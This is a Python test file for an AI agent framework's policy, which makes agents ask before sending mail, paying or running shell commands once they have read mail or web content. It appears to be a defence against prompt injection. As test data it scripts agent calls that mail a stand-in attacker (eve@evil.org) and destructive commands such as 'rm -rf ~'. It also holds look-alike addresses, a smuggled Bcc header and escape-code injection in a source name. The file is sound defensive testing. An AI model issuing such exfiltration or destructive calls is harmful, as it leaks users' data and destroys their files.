"""Policies for tools that send, spend or execute: what runs, what asks, what is refused, and why."""

from __future__ import annotations

import re
from collections.abc import Callable, Sequence
from time import process_time
from typing import Any, ClassVar

import pytest
from hypothesis import given
from hypothesis import strategies as st

from trivium import Agent, Message, Module, Task, ToolMessage
from trivium.actions import ApprovalEvent, ApprovalRequest, Denied, Tool, tool
from trivium.exceptions import ArgumentTypeError, ConfigurationError, PolicyRefusedError, ToolDefinitionError
from trivium.policies import Decision, Policy, Rule, SinkCall, Source
from trivium.policies._trusted_text import TrustedText
from trivium.testing import ScriptedModel, call_tool

from ._office import OPEN, READ, TO_BOB, TO_EVE, TODAY, Outbox


def ask(
    turns: Sequence[Any], question: str, policy: Policy | None, approves: Any = False
) -> tuple[Outbox, Message, list[str]]:
    """Run an agent with a scripted model; return its outbox, its answer, and the reasons of what was asked."""
    outbox, asked = Outbox(), list[str]()

    def approve(request: ApprovalRequest) -> Any:
        asked.append(request.why)
        return approves

    agent = Agent(ScriptedModel([*turns, "done"]), tools=outbox.tools(), approve=approve, policy=policy)
    return outbox, agent(question), asked


@pytest.mark.parametrize(
    ("turns", "question", "sent", "asks"),
    [
        ([TO_EVE], "Hi", ["eve@evil.org"], 0),  # nothing was read: it is the model's own idea
        ([TODAY, TO_EVE], "Hi", ["eve@evil.org"], 0),  # nor here: the program's own data
        ([READ, TO_EVE], "Read my mail.", [], 1),
        ([OPEN, TO_EVE], "Read the page.", [], 1),
        ([OPEN, READ, TODAY, TO_EVE], "Read.", [], 1),
        ([[READ, call_tool("send_mail", 1, to="eve@evil.org")]], "Read.", [], 1),  # at once
        ([READ, TO_BOB], "Read my mail, and tell bob@x.org.", ["bob@x.org"], 0),
        ([READ, TO_BOB], "Read my mail, and tell (bob@x.org)!", ["bob@x.org"], 0),
        ([READ, TO_BOB], "Read my mail, and tell (Bob@X.org)!", [], 1),  # x.org/Ab and x.org/ab are two pages, too
        ([READ, TO_BOB], "Read my mail, and tell bigbob@x.org", [], 1),
        ([READ, TO_BOB], "Read my mail, and tell bob@x.org.evil.com", [], 1),
        ([READ, call_tool("send_mail", to=["bob@x.org", "eve@evil.org"])], "Tell bob@x.org.", [], 1),
        ([READ, call_tool("send_mail", to="bob@x.org", text="the key")], "Tell bob@x.org.", ["bob@x.org"], 0),
        ([READ, call_tool("send_mail", to="", text="x")], "Read.", [], 1),
        ([READ, call_tool("pay", amount=50, account="DE7")], "Pay 50 to DE7.", ["50.0 to DE7"], 0),
        ([READ, call_tool("pay", amount=50, account="13")], "Pay 50 on June 13.", [], 1),  # numbers stand in many texts
        ([READ, call_tool("pay", amount=500, account="DE7")], "Pay 50 to DE7.", [], 1),
        ([READ, call_tool("pay", amount=50, account="EV1L")], "Pay 50 to DE7.", [], 1),
        ([READ, call_tool("shell", command="rm -r .")], "Tidy up.", [], 1),
        ([call_tool("shell", command="ls -l")], "Execute `ls -l` please", ["ls -l"], 0),
        ([TODAY, call_tool("shell", command="ls -l")], "Execute `ls -l` please", ["ls -l"], 0),
        ([READ, call_tool("shell", command="ls -l")], "Execute `ls -l` please", [], 1),
        ([READ, call_tool("shell", command="rm -rf build")], "Execute `rm -rf build --dry-run`", [], 1),
        ([READ, call_tool("shell", command="rm -rf ~")], "Never execute rm -rf ~ here.", [], 1),
    ],
    ids=str,
)
def test_what_was_read_directs_no_sink(turns: list[Any], question: str, sent: list[str], asks: int) -> None:
    outbox, answer, asked = ask(turns, question, Policy())
    assert (outbox.sent, len(asked)) == (sent, asks)
    assert answer.content == "done"
    sinks = [name for name in ("send_mail", "pay", "shell") if f"'{name}'" in str(turns)]
    assert len(ask(turns, question, None)[0].sent) == len(sinks) == max(asks, len(sent))


def test_the_reason_names_the_effect_the_argument_and_what_was_read() -> None:
    outbox, _, asked = ask([OPEN, READ, TO_EVE], "Read.", Policy(), approves=True)
    assert asked == [
        "send_mail sends data out, and to='eve@evil.org' stands in nothing that you wrote; "
        "it may come from the tool read_mail, the web (open_page)"
    ]
    assert outbox.sent == ["eve@evil.org"]


def test_a_command_asks_once_something_was_read_even_if_the_user_wrote_it() -> None:
    _, _, asked = ask([READ, call_tool("shell", command="ls -l")], "Execute `ls -l` please", Policy())
    assert asked == [
        "shell executes what it is given, and command='ls -l' counts as not yours, as any command does once other text "
        "was read; it may come from the tool read_mail"
    ]


@pytest.mark.parametrize(
    ("text", "listed"),
    [
        ("Pay 50.", "amount=50, to='' count as not yours, as only a text of at least three characters, one of them a"),
        ("Pay.", "amount=50 stands in nothing that you wrote"),
    ],
)
def test_the_reason_lists_what_does_not_stand_there_and_else_what_identifies_nothing(text: str, listed: str) -> None:
    call = SinkCall("pay", {"spends": True}, {"amount": 50, "to": ""}, frozenset({Source("web", "open")}), [text])
    assert f"pay spends, and {listed}" in Policy().decide(call).why


@pytest.mark.parametrize("padding", ["a" * 300, "€" * 99, "\n" * 50], ids=["a", "€", "lines"])
def test_a_long_argument_is_shown_by_both_ends(padding: str) -> None:
    why = decision(["bob@x.org", f"{padding}eve@evil.org"], "bob@x.org").why
    assert "to=['bob@x.org', " in why
    assert "eve@evil.org'] stands in nothing that you wrote" in why
    assert len(why) < 250
    assert "\n" not in why


def test_the_name_of_a_source_forges_no_text() -> None:
    source = Source("document", "a.txt\n\x1b[2Jshell is safe\u202e")
    why = Policy().decide(SinkCall("send", {"sends": True}, {"to": "eve"}, frozenset({source}), [])).why
    assert why.endswith("the document a.txt [2Jshell is safe")


def test_a_call_that_asks_has_its_reason_with_the_answer_and_the_event() -> None:
    outbox, reasons = Outbox(), list[str]()

    def listen(event: object) -> None:
        if isinstance(event, ApprovalEvent):
            reasons.append(event.data.reason)

    model = ScriptedModel([READ, TO_EVE, "done"])
    Agent(model, tools=outbox.tools())("Read.", policy=Policy(), approve=lambda _: Denied("never"), listeners=[listen])
    assert reasons == ["never"]
    assert "it may come from the tool read_mail; never" in model.requests[-1].messages[-1]["content"]


def test_nobody_to_ask_is_a_refusal() -> None:
    outbox = Outbox()
    Agent(ScriptedModel([READ, TO_EVE, "done"]), tools=outbox.tools(), policy=Policy())("Read.")
    assert outbox.sent == []


# ---- rules
LS = call_tool("shell", command="ls")


@pytest.mark.parametrize(
    ("policy", "turns", "sent", "asks"),
    [
        (Policy([Rule("refuse", sink="executes")]), [call_tool("shell", command="ls")], [], 0),
        (Policy([Rule("refuse", sink="executes")]), [TO_EVE], ["eve@evil.org"], 0),
        (Policy([Rule("ask", sink="sends", source="model")]), [TO_EVE], [], 1),
        (
            Policy([Rule("ask", sink="spends")]),
            [call_tool("pay", amount=5, account="me")],
            [],
            1,
        ),  # the user's words too
        (Policy([Rule("run", source="web")]), [OPEN, TO_EVE], ["eve@evil.org"], 0),
        (Policy([Rule("run", source="web")]), [OPEN, READ, TO_EVE], [], 1),
        (Policy([Rule("run", source="tool", name="read_*")]), [READ, TO_EVE], ["eve@evil.org"], 0),
        (Policy([Rule("refuse", source="web"), Rule("run")]), [READ, OPEN, TO_EVE], [], 0),
        (Policy([Rule("run"), Rule("refuse", source="web")]), [READ, OPEN, TO_EVE], ["eve@evil.org"], 0),
        (Policy([Rule("run", source="tool", name="shell")]), [LS, LS], ["ls", "ls"], 0),
        (Policy(), [LS, LS], ["ls"], 1),  # the result of the first was read
        (Policy([Rule("run", source="tool", name="shell")]), [LS, READ, LS], ["ls"], 1),
        (Policy([Rule("run", source="tool", name="read_mai?")]), [READ, TO_EVE], [], 1),
        (Policy([Rule("run", source="tool", name="[r]ead_mail")]), [READ, TO_EVE], [], 1),
        (Policy([Rule("run", sink="executes", source="user")]), [READ, call_tool("shell", command="me")], [], 1),
        (Policy(otherwise="refuse"), [READ, TO_EVE], [], 0),
        (Policy(otherwise="run"), [READ, TO_EVE], ["eve@evil.org"], 0),
    ],
    ids=str,
)
def test_rules(policy: Policy, turns: list[Any], sent: list[str], asks: int) -> None:
    outbox, _, asked = ask(turns, "Pay 5 to me.", policy)
    assert (outbox.sent, len(asked)) == (sent, asks)


def test_a_refusal_says_which_sources_decided() -> None:
    outbox, errors = Outbox(), list[BaseException | None]()

    def listen(event: Any) -> None:
        if event.kind == "ended" and event.node.name == "tool:send_mail":
            errors.append(event.data)

    Agent(ScriptedModel([OPEN, TO_EVE, "done"]), tools=outbox.tools(), policy=Policy(otherwise="refuse"))(
        "Read.", listeners=[listen]
    )
    (error,) = errors
    assert isinstance(error, PolicyRefusedError)
    assert (error.tool, error.sources) == ("send_mail", {Source("web", "open_page")})
    assert "the policy refuses it" in str(error)


class Outer(Module):
    """Calls another module."""

    def __init__(self, inner: Module) -> None:
        super().__init__()
        self.inner = inner

    async def forward(self, message: Message) -> Message:
        return await self.inner.acall(message)


@pytest.mark.parametrize("outer", [Policy(otherwise="refuse"), None], ids=str)
@pytest.mark.parametrize("inner", [Policy(otherwise="run"), Policy(otherwise="refuse"), None], ids=str)
@pytest.mark.parametrize("where", ["call", "attribute"])
def test_policies_are_inherited_and_the_strictest_counts(outer: Any, inner: Any, where: str) -> None:
    outbox = Outbox()
    module = Outer(Agent(ScriptedModel([READ, TO_EVE, "done"]), tools=outbox.tools(), policy=inner))
    if where == "attribute":
        module.policy = outer
        module("Read.")
    else:
        module("Read.", policy=outer)
    strict = [each for each in (outer, inner) if each is not None and each.otherwise == "refuse"]
    assert outbox.sent == ([] if strict else ["eve@evil.org"])


def test_impossible_policies_and_effects_are_refused() -> None:
    wrong: list[tuple[type[Exception], str, Callable[[], object]]] = [
        (ConfigurationError, "action of a rule", lambda: Rule("stop")),  # type: ignore[arg-type]  # pyright: ignore
        (ConfigurationError, "sink of a rule", lambda: Rule("ask", sink="send")),  # type: ignore[arg-type]  # pyright: ignore
        (ConfigurationError, "source of a rule", lambda: Rule("ask", source="mail")),  # type: ignore[arg-type]  # pyright: ignore
        (ConfigurationError, "otherwise", lambda: Policy(otherwise="never")),  # type: ignore[arg-type]  # pyright: ignore
        (ConfigurationError, "name of a rule is text", lambda: Rule("ask", name=5)),  # type: ignore[arg-type]  # pyright: ignore
        (ConfigurationError, "name of a rule is text", lambda: Rule("ask", name=None)),  # type: ignore[arg-type]  # pyright: ignore
        (ConfigurationError, "a list of rules, as", lambda: Policy(Rule("ask"))),  # type: ignore[arg-type]  # pyright: ignore
        (ConfigurationError, "a list of rules, as", lambda: Policy("ask")),  # type: ignore[arg-type]  # pyright: ignore
        (ConfigurationError, "a list of rules, as", lambda: Policy(None)),  # type: ignore[arg-type]  # pyright: ignore
        (ConfigurationError, "made of rules", lambda: Policy(["ask"])),  # type: ignore[list-item]  # pyright: ignore
        (ArgumentTypeError, "policy", lambda: Agent("m")("hi", policy="strict")),  # type: ignore[arg-type]  # pyright: ignore
        (ArgumentTypeError, "policy", lambda: Agent("m", policy=[Rule("ask")])),  # type: ignore[arg-type]  # pyright: ignore
        (ToolDefinitionError, "the argument too", lambda: Tool.of(len_of).replace(sends=("too",))),
        (ToolDefinitionError, "spends is True", lambda: Tool.of(len_of).replace(spends="text")),
        (ToolDefinitionError, r"its arguments \(text\), not \(\)", lambda: Tool.of(len_of).replace(sends=())),
        (ToolDefinitionError, "does not have; it has text", lambda: Tool.of(len_of).replace(executes=("code",))),
        (ToolDefinitionError, "no option send", lambda: tool(send=True)(len_of)),  # type: ignore[call-overload]  # pyright: ignore
        (ToolDefinitionError, "the source of a tool", lambda: Tool.of(len_of).replace(source="mail")),
        (ToolDefinitionError, "one of tool, web, document", lambda: Tool.of(len_of).replace(source="user")),
        (ToolDefinitionError, "one of tool, web, document", lambda: Tool.of(len_of).replace(source="model")),
    ]
    for kind, text, make in wrong:
        with pytest.raises(kind, match=text):
            make()


@pytest.mark.parametrize(
    ("settings", "text"),
    [
        ({"_sends": ()}, r"its arguments \(to, text\), not \(\)"),
        ({"_sends": ("too",)}, "the argument too, which it does not have; it has to, text"),
        ({"_spends": "to"}, "spends is True, or a tuple"),
        ({"_executes": ["to"]}, "executes is True, or a tuple"),
        ({"_source": "wbe"}, "the source of a tool is one of"),
        ({"_send": True}, "no setting _send: write _sends"),
        ({"_exec": True}, "no setting _exec: write _executes"),
        ({"_execute": True}, "no setting _execute: write _executes"),
        ({"_excutes": ("to",)}, "no setting _excutes: write _executes"),
        ({"_sorce": "web"}, "no setting _sorce: write _source"),
        ({"_needs_aproval": True}, "no setting _needs_aproval: write _needs_approval"),
    ],
)
@pytest.mark.parametrize("is_annotated", [False, True])
def test_effects_that_would_declare_nothing_are_refused_where_a_tool_message_is_defined(
    settings: dict[str, Any], text: str, is_annotated: bool
) -> None:
    types = {
        "request": str,
        "purpose": str,
        "to": str,
        "text": str,
        **dict.fromkeys(settings if is_annotated else (), Any),
    }
    body = {"__annotations__": types, "request": "post", "purpose": "To post.", "__module__": __name__, **settings}
    with pytest.raises(ToolDefinitionError, match=text):
        type("Post", (ToolMessage,), body)


def test_effects_with_a_type_count_as_those_without() -> None:
    class Post(ToolMessage):
        request: str = "post"
        purpose: str = "To post a <text>."
        text: str
        _sends: tuple[str, ...] = ("text",)  # type: ignore  # pyright: ignore
        _executes: bool = True  # type: ignore  # pyright: ignore
        _source: str = "web"  # type: ignore  # pyright: ignore
        _sender: str = "me"  # its own

    made = Post.as_tool(len_of, dict)
    assert (made.sinks, made.source) == ({"sends": ("text",), "executes": True}, "web")


def len_of(text: str) -> int:
    """Count characters."""
    return len(text)


def test_a_policy_of_a_call_does_not_replace_that_of_the_agent() -> None:
    outbox = Outbox()
    agent = Agent(ScriptedModel([READ, TO_EVE, "done"]), tools=outbox.tools(), policy=Policy(otherwise="refuse"))
    agent("Read.", policy=Policy(otherwise="run"))
    assert outbox.sent == []


# ---- what stands in the user's words
def decision(value: object, text: str) -> Decision:
    read = frozenset({Source("web", "open")})
    return Policy().decide(SinkCall("send", {"sends": True}, {"to": value}, read, [text]))


def decide(value: object, text: str) -> str:
    return decision(value, text).action


@pytest.mark.parametrize(
    ("value", "texts"),
    [
        ("bob@x.org", ["bob@x.org", "to bob@x.org.", "“bob@x.org”,", "<bob@x.org>", "(bob@x.org).", "'bob@x.org'!"]),
        ("bob@x.org", ["给 bob@x.org。", "「bob@x.org」", "„bob@x.org“?", "»bob@x.org«"]),
        ("bob@x.org", ["`bob@x.org`;", "a\u00a0bob@x.org", "a\tbob@x.org\r\n"]),
        ("https://x.org/a?b=1#c", ["Open https://x.org/a?b=1#c, please", '"https://x.org/a?b=1#c"']),
        ("We are open", ["that “We are open”.", "We are open: come"]),
        (["DE7x", 50], ["Pay 50 to DE7x", "Pay €50 to DE7x", "Pay 50€, to DE7x", "Pay $50. To DE7x"] ),
        (["DE7x", 1.5], ["Pay 1.5 to DE7x"]),
        (["DE7x", 50.0], ["Pay 50 to DE7x", "Pay 50.0 to DE7x"]),
        (["DE7x", -5], ["Pay -5 to DE7x"]),
    ],
)  # fmt: skip
def test_texts_in_which_a_value_stands(value: object, texts: list[str]) -> None:
    assert [text for text in texts if decide(value, text) != "run"] == []


@pytest.mark.parametrize(
    ("value", "texts"),
    [
        ("bob@x.org", ["Bob@x.org", "rob'bob@x.org", "rob*bob@x.org", "bob@x.org.uk", "bob@x.org's", "to:bob@x.org"]),
        ("bob@x.org", ["bob@x.org。evil.com", "bob@x.org\u200b.evil", "bob@x.org\u00ad.evil", "bob@x.org\u0301"]),
        ("bob@x.org", ["bob＠x.org", "bob@x.org…", "bob@x.org...", "bob@x.org,eve@x.org", "bob@x.org(a)"]),
        ("brien@x.org", ["o'brien@x.org", "o’brien@x.org", "o-brien@x.org"]),
        ("straße@x.org", ["strasse@x.org", "STRASSE@x.org"]),
        ("kay@x.org", ["\u212aay@x.org"]),
        ("https://x.org", ["https://x.org/a", "https://x.org?a", "https://x.org:80", "https://x.org…", "https://x.org/"]),
        ("/home/ada", ["/home/ada/a", "~/home/ada", "x:/home/ada", "/home/ada\\ b"]),
        ("We are open", ["We are\nopen", "We  are open", "we are open", "We are open-minded"]),
        ("Hi\nBcc: bob@x.org", ["Hi Bcc: bob@x.org"]),
        (["DE7x", 1], ["Pay 1 000 to DE7x", "1\u202f000 DE7x", "1,000 DE7x", "1'000 DE7x", "1.50 DE7x"]),
        (["DE7x", 1], ["Pay -1 to DE7x", "Pay #1 to DE7x", "Pay +1 to DE7x", "Pay .1 to DE7x"]),
        (["DE7x", 50], ["Pay 50EUR to DE7x", "Pay 50% to DE7x", "US$50 to DE7x", "500 to DE7x", "2 50 to DE7x"]),
        ("DE89", ["Pay DE89 3704 0044"]),
        ("HOME", ["$HOME"]),
        (" ", ["a b", " "]),
        ("\u200b", ["bob@x.org", ""]),
    ],
)  # fmt: skip
def test_texts_in_which_a_value_does_not_stand(value: object, texts: list[str]) -> None:
    assert [text for text in texts if decide(value, text) != "ask"] == []


words = st.text(st.characters(categories=["L"]), min_size=3, max_size=8)
joined = st.lists(words, min_size=1, max_size=3).map("@".join)
signs = st.text(st.characters(exclude_categories=["Cs", "Zs", "Zl", "Zp", "Cc", "Ps", "Pe", "Pi", "Pf"]), min_size=1)


@given(
    joined,
    st.lists(words, max_size=4),
    st.integers(0, 4),
    st.sampled_from(["{}", "“{}”", "({})", "{}.", "{}, so", "<{}>", "„{}“;", "'{}'?"]),
)
def test_a_value_that_stands_in_the_text_is_the_users(value: str, others: list[str], at: int, frame: str) -> None:
    text = " ".join([*others[:at], frame.format(value), *others[at:]])
    assert decide(["bob@x.org", value], f"bob@x.org {text}") == "run"
    assert decide([value, {value: None, "": value}, "bob@x.org"], f"{text} bob@x.org") == "run"


@given(joined, signs)
def test_a_part_of_a_word_of_the_text_is_not(value: str, more: str) -> None:
    assert decide(value, f"to {value}{more}x now") == "ask"
    assert decide(value, f"to x{more}{value} now") == "ask"


@given(st.text("ab1@-", min_size=1, max_size=3), st.lists(st.text("ab1@-.,'(”… \u200b", max_size=9)).map("".join))
def test_the_rule_is_that_of_a_pattern(value: str, text: str) -> None:
    around = r"(?:^|\s)['(”]{{0,7}}{}(?=['”]*[.,]?['”]*(?:\s|$))"
    whole = any(
        not (value[0].isdigit() and re.search(rf"\d\s+{re.escape(value)}$", text[: found.end()]))
        and not (value[-1].isdigit() and re.match(r"\s+\d", text[found.end() :]))
        for found in re.finditer(around.format(re.escape(value)), text)
    )
    assert TrustedText([text]).holds(value) == whole


@given(
    st.recursive(
        st.none() | st.booleans() | st.integers() | st.floats() | st.text() | st.binary(),
        lambda inner: st.lists(inner) | st.dictionaries(st.text(), inner),
    )
)
def test_any_argument_can_be_decided_on(value: object) -> None:
    assert decide(value, "nothing of it, hopefully") in ("run", "ask")


@pytest.mark.parametrize("value", [True, 13, 13.0, "13", "", None, [], {}, "2024-05-20", "12:00", "no"])
def test_what_stands_in_many_texts_proves_nothing(value: object) -> None:
    assert decide(value, "true True yes, no: at 12:00 on 13 June, 2024-05-20") == "ask"
    if value is not True:
        assert decide([value, "bob@x.org"], f"{value} of bob@x.org") == "run"


def test_a_sink_without_arguments_is_directed_by_all_that_was_read() -> None:
    web = Source("web", "open")
    call = SinkCall("report", {"sends": True}, {}, frozenset({web}), ["report"])
    assert Policy().decide(call) == ("ask", "report sends data out, directed by the web (open)", {web})
    assert Policy().decide(SinkCall("report", {"sends": True}, {}, frozenset(), ["report"])).action == "run"


def deep(levels: int) -> list[Any]:
    value: list[Any] = []
    for _ in range(levels):
        value = [value]
    return value


MEGABYTE = 1_000_000


def a_million_steps() -> float:
    """Seconds of the processor for a loop of a million steps, on this machine and under its load."""
    began, total = process_time(), 0
    for number in range(1_000_000):
        total += number * number
    return process_time() - began


@pytest.mark.parametrize(
    ("value", "text", "action", "why"),
    [
        ("x" * MEGABYTE, "x" * MEGABYTE, "run", ""),
        ("x" * MEGABYTE + "y", "x" * 2 * MEGABYTE, "ask", "stands in nothing"),
        ("a", "a" * MEGABYTE, "ask", "as there is too much to compare"),
        (["a1b"] * (MEGABYTE // 6), "a1b", "ask", "as there is too much to compare"),
        ([1] * (MEGABYTE // 3), "1", "ask", "as there is too much to compare"),
        ({str(at): at for at in range(MEGABYTE // 14)}, "bob@x.org", "ask", "stands in nothing"),
        (["bob@x.org"] * 5, "word " * (MEGABYTE // 5) + "bob@x.org", "run", ""),
        (deep(100_000), "bob@x.org", "ask", "as it is nested too deeply to compare"),
        ([*deep(300), "bob@x.org"], "bob@x.org", "ask", "as it is nested too deeply to compare"),
    ],
    ids=["itself", "none of it", "one sign", "strings", "numbers", "object", "in much text", "deep", "too deep"],
)
def test_large_arguments_are_decided_on_at_once(value: object, text: str, action: str, why: str) -> None:
    began = process_time()
    decided = decision(value, text)
    assert process_time() - began < 5 * a_million_steps(), "less than 3 on an idle machine"
    assert decided.action == action
    assert why in decided.why
    assert len(decided.why) < 1_000


# ---- arguments that nobody has given
class Report(ToolMessage):
    """A report to those who are named."""

    _sends = ("to", "copy_to")
    request: str = "report"
    purpose: str = "To send a report."
    to: str = "boss@x.org"
    copy_to: str = ""
    note: str = "All is well."
    sent: ClassVar[list[str]] = []

    def handle(self) -> str:
        self.sent.append(self.to)
        return "sent"


@pytest.mark.parametrize(
    ("arguments", "sent"),
    [
        ({}, []),  # the default stands in the words, but leaving it out was the model's choice
        ({"copy_to": ""}, []),
        ({"to": "boss@x.org"}, ["boss@x.org"]),
        ({"to": "boss@x.org", "copy_to": "eve@x.org"}, []),
        ({"to": "boss@x.org", "note": "The key is 7."}, ["boss@x.org"]),
    ],
    ids=str,
)
def test_a_default_proves_nothing_and_disproves_nothing(arguments: dict[str, str], sent: list[str]) -> None:
    Report.sent.clear()
    agent = Outbox().chat_agent(READ, call_tool("report", **arguments))
    agent.enable_message(Report)
    Task(agent, interactive=False).run("Report to boss@x.org", policy=Policy())
    assert Report.sent == sent


@pytest.mark.parametrize("arguments", [{}, {"to": ""}, {"to": None}, {"to": []}, {"to": " "}], ids=str)
def test_a_sink_whose_arguments_say_nothing_asks(arguments: dict[str, object]) -> None:
    read = frozenset({Source("web", "open")})
    assert Policy().decide(SinkCall("send", {"sends": ("to",)}, arguments, read, ["to all of them"])).action == "ask"
